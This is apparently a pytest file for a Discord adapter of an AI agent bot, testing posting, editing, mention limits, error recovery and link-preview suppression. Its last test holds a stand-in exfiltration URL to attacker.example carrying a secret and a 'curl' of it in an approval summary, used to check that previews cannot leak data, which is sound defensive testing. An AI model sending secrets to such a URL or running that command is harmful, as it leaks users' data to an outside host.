"""Posting, editing, typing; Discord refusing calls never stops the adapter."""

from __future__ import annotations

import discord
import pytest
from discord_helpers import RecordingBot, World, running

from lettabot.runtime.adapter import Scope

pytestmark = pytest.mark.anyio


async def test_post_edit_typing_notify(world: World, bot: RecordingBot) -> None:
    fake = world.fake
    scope = Scope(adapter="discord", workspace=world.guild["id"], channel=world.channel["id"])
    async with running(fake, bot) as adapter:
        assert adapter.limits.max_message_length == 2000
        await adapter.typing(scope)
        assert fake.rest("POST", rf"/channels/{world.channel['id']}/typing$")
        ref = await adapter.post(scope, "Thinking")
        await adapter.edit(ref, "Thinking about **it**")
        await adapter.edit(ref, "Done: `ok`")
        assert fake.edits[int(ref.id)] == ["Thinking about **it**", "Done: `ok`"]
        await adapter.notify(scope, "Only you can approve this.", user_id=world.ada["id"])
        note = fake.bot_messages(world.channel)[-1]
        assert note["content"] == f"<@{world.ada['id']}> Only you can approve this."
        [_, call] = fake.rest("POST", r"/messages$")
        assert call.body["allowed_mentions"] == {"parse": [], "users": [int(world.ada["id"])]}


async def test_agent_text_cannot_ping_everyone(world: World, bot: RecordingBot) -> None:
    fake = world.fake
    scope = Scope(adapter="discord", workspace=world.guild["id"], channel=world.channel["id"])
    async with running(fake, bot) as adapter:
        await adapter.post(scope, "@everyone look <@&123>")
        [call] = fake.rest("POST", r"/messages$")
        assert call.body["allowed_mentions"] == {"parse": []}


async def test_refused_calls_raise_and_the_adapter_goes_on(
    world: World, bot: RecordingBot, caplog: pytest.LogCaptureFixture
) -> None:
    """A refused post or edit raises (the runtime retries and reports a lost reply in the
    thread): it never returns as if it had worked."""
    fake = world.fake
    scope = Scope(adapter="discord", workspace=world.guild["id"], channel=world.channel["id"])
    async with running(fake, bot) as adapter:
        fake.fail("POST", r"/channels/\d+/messages$", status=403)
        with pytest.raises(discord.HTTPException):
            await adapter.post(scope, "nobody will see this")
        fake.fail("PATCH", r"/messages/\d+$", status=404)
        ref = await adapter.post(scope, "this one lands")
        with pytest.raises(discord.HTTPException):
            await adapter.edit(ref, "but this edit is refused")
        assert fake.messages[int(ref.id)]["content"] == "this one lands"
        assert bot.platform_errors == [("discord", "403"), ("discord", "404")]  # /metrics

        # no permission to open threads: the conversation stays in the channel
        fake.fail("POST", r"/threads$", status=403)
        await fake.say(world.channel, world.ada, "help?", mention=True)
        [msg] = await fake.wait_for(lambda: bot.messages)
        assert msg.scope == scope

        # a payload discord.py cannot read is skipped; the next event still arrives
        await fake.dispatch("MESSAGE_CREATE", {"id": "1", "channel_id": world.channel["id"]})
        await fake.say(world.channel, world.bob, "still there?", mention=True)
        await fake.wait_for(lambda: bot.messages[1:])
        assert adapter.client.is_ready() and not adapter.client.is_closed()
    assert adapter.client.is_ready()


async def test_every_message_the_bot_sends_or_edits_has_link_previews_off(
    world: World, bot: RecordingBot,
) -> None:
    """A preview is fetched by Discord without a click: a URL with data in it would leak it."""
    from lettabot_discord.testing import SUPPRESS_EMBEDS

    from lettabot.runtime.adapter import ApprovalView

    fake = world.fake
    scope = Scope(adapter="discord", workspace=world.guild["id"], channel=world.channel["id"])
    leak = "https://attacker.example/?d=SECRET"
    async with running(fake, bot) as adapter:
        ref = await adapter.post(scope, f"see {leak}")
        await adapter.edit(ref, f"now {leak}")
        await adapter.notify(scope, leak, user_id=world.ada["id"])
        await adapter.send_file(scope, "a.txt", b"x", comment=leak)
        stop = await adapter.show_stop(scope)
        await adapter.offer_feedback(ref)
        view = ApprovalView(request_id="r1", scope=scope, tool_name="Bash",
                            input_summary=f"curl {leak}", requested_by=world.ada["id"],
                            allow_always=False)
        prompt = await adapter.present_approval(view)
        await adapter.resolve_approval(prompt, view, "Denied")
        await adapter.hide_stop(stop)
        calls = fake.message_calls()
        assert len(calls) == 8
        assert all(int(data["flags"]) & SUPPRESS_EMBEDS for _, data in calls), calls
